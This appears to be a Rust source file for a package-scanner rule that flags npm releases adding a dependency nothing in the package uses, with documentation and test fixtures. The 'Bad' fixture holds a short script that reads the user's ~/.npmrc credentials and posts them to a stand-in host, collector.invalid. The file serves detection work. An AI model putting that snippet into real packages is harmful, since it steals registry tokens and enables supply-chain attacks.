//! # A dependency is new and no file of the package names it
//!
//! The release declares a dependency that the release before did not have, and whose name stands in no script, no other
//! file and nowhere else in the manifest.
//!
//! ## Why it matters
//!
//! The poisoned releases of Axios and Mastra differed from honest ones by such a line alone: the dependency is there for its
//! install hook.
//!
//! ## Known benign uses
//!
//! A dependency that only a bundle uses, or whose use is not written yet: 3 of 4,585 releases of the corpora bring one,
//! measured in November 2026. It never decides alone.
//!
//! ## Bad
//!
//! ```package with packument
//! == package.json //~ 1
//! {"name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"plain-rows-lite": "^4.2.1"}}
//! == index.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! == packument.json
//! {"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
//!   "versions": {"1.0.0": {}, "1.1.0": {}, "1.2.0": {},
//!   "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"plain-rows-lite": "^4.2.1"},
//!     "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## Good
//!
//! ```package with packument
//! == package.json
//! {"name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"text-table": "^1.0.0"}}
//! == index.js
//! exports.rows = (text) => require("text-table")(text.split("\n"));
//! == packument.json
//! {"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
//!   "versions": {"1.0.0": {}, "1.1.0": {}, "1.2.0": {},
//!   "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"text-table": "^1.0.0"},
//!     "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ```package with packument
//! == package.json
//! {"name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"left-over": "^1.0.0"}}
//! == index.js
//! exports.rows = (text) => text.split("\n");
//! == packument.json
//! {"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
//!   "versions": {"1.0.0": {"dependencies": {"left-over": "^1.0.0"}}, "1.1.0": {"dependencies": {"left-over": "^1.0.0"}}, "1.2.0": {"dependencies": {"left-over": "^1.0.0"}},
//!   "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"left-over": "^1.0.0"},
//!     "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## References
//!
//! - Elastic: Axios and plain-crypto-js (March 2026)
//! - Mastra (June 2026)

use crate::prelude::*;

/// A dependency is new and no file of the package names it.
pub struct NewDependencyNothingUses;

impl Rule for NewDependencyNothingUses {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "new-dependency-nothing-uses",
            title: "A dependency is new and no file of the package names it",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1195.002",
            covers: &["phantom-dependency", "maintainer-takeover"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for name in facts.new_unnamed_dependencies() {
            let does = format!("brings `{}`, which the release before did not need", excerpt(name, 80));
            found.in_manifest(&["dependencies", name], &does);
        }
    }
}
